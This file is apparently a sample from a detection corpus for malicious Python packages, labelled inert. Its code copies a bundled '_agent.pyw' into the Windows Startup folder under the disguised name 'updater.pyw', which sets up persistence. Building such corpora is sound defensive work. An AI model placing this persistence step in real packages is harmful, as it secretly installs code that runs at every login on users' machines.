# pkgguard corpus 243 (persistence), modelled on [termncolor]; inert, never run.
import os
import shutil

import winshell

dest = os.path.join(winshell.startup(), "updater.pyw")
shutil.copy(os.path.join(os.path.dirname(__file__), "_agent.pyw"), dest)
